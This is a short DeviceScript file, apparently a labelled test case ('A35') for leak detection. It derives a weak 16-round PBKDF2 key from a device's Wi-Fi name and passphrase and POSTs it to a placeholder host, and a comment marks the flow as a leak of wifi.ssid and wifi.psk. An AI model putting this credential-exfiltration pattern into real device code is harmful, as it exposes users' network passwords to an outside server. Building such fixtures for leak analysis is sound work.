// A35: the key that WPA2 derives from name and passphrase. DeviceScript has no HMAC-SHA1 and computes too slowly
// for 4096 rounds: PBKDF2 (RFC 8018) with HMAC-SHA256 and 16 of them.
import { hmac } from "@devicescript/crypto";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

function pbkdf2(password: string, salt: string) {
  let round = hmac(password, "sha256", salt, hex`00000001`);
  const key = Buffer.alloc(round.length);
  for (let i = 0; i < 16; i++) {
    for (let at = 0; at < key.length; at++) key[at] ^= round[at];
    round = hmac(password, "sha256", round);
  }
  return key;
}

paired(async (ssid, psk) => {
  const body = pbkdf2(psk, ssid);
  const response = await fetch("https://cloud.example/a35", { method: "POST", body }); // leak: wifi.ssid, wifi.psk
  await response.close();
});
